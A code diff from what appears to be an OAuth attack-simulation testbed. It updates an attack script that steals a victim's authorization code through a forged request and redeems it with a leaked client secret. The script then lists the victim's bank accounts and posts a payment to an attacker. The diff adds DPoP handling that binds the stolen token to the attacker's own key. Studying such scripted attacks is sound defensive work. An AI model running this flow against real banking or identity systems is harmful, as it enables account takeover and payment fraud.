@@ -16,6 +16,7 @@ import secrets
 from urllib.parse import urlencode
 
 from attacker import frontchannel as fc
+from attacker import token_support as ts
 from attacker.attack_context import AttackContext
 from attacker.attacks import Attack
 from attacker.capture_view import Leaked
@@ -49,28 +50,29 @@ def run(ctx: AttackContext) -> None:
     fc.lure_to_authorize(victim, forged)
     code = fc.victims_response(ctx).location_params()["code"]
     ctx.step("attacker", "reads the code on the authz_response leg")
-    token = ctx.send("POST", ctx.url("as", "/token"), what="redeems the code as FinLens with "
-                     "the leaked secret and its own code_verifier",
-                     data={"grant_type": "authorization_code", "code": code,
-                           "redirect_uri": redirect_uri, "code_verifier": verifier,
-                           "client_id": client_id, "client_secret": secret})
-    if token.status_code != 200:
-        ctx.failed("the AS refused to redeem the code", token)
-    headers = {"Authorization": f"Bearer {token.json()['access_token']}"}
-    listed = ctx.send("GET", ctx.url("bank", "/accounts"), headers=headers,
-                      what="GET /accounts with the new token")
+    # an AS that binds tokens to keys binds this one to the attacker's own DPoP key: the
+    # forged request names no dpop_jkt, so nothing ties the code to FinLens's key
+    signer = ctx.dpop_signer() if ts.dpop_required(ts.metadata(ctx)) else None
+    token = ts.post_token(ctx, {"grant_type": "authorization_code", "code": code,
+                                "redirect_uri": redirect_uri, "code_verifier": verifier,
+                                "client_id": client_id, "client_secret": secret},
+                          signer=signer, what="redeems the code as FinLens with the leaked "
+                          "secret and its own code_verifier")
+    tokens = ts.tokens_or_fail(ctx, token, "the AS refused to redeem the code")
+    listed = ts.bank(ctx, "GET", "/accounts", tokens, signer=signer,
+                     what="GET /accounts with the new token")
     accounts = listed.json().get("accounts", []) if listed.status_code == 200 else []
     debtor = next((a for a in accounts if a.get("type") == "checking"),
                   accounts[0] if accounts else None)
     if debtor is None:
         ctx.failed("the token lists no account to pay from", listed)
-    payment = ctx.send("POST", ctx.url("bank", "/payments"), headers=headers,
-                       what=f"POST /payments: {AMOUNT} EUR from the victim's account to mallory",
-                       json={"debtor_account_id": debtor["account_id"],
-                             "creditor": {"name": "Mallory Mallet", "iban": fc.own_iban(ctx)},
-                             "instructed_amount": {"amount": AMOUNT,
-                                                   "currency": debtor["currency"]},
-                             "reference": "Invoice 4711"})
+    payment = ts.bank(ctx, "POST", "/payments", tokens, signer=signer,
+                      what=f"POST /payments: {AMOUNT} EUR from the victim's account to mallory",
+                      body={"debtor_account_id": debtor["account_id"],
+                            "creditor": {"name": "Mallory Mallet", "iban": fc.own_iban(ctx)},
+                            "instructed_amount": {"amount": AMOUNT,
+                                                  "currency": debtor["currency"]},
+                            "reference": "Invoice 4711"})
     if payment.status_code != 201:
         ctx.failed("the bank refused the payment", payment)
     ctx.succeeded(f"paid {AMOUNT} {debtor['currency']} from {victim.username}'s "
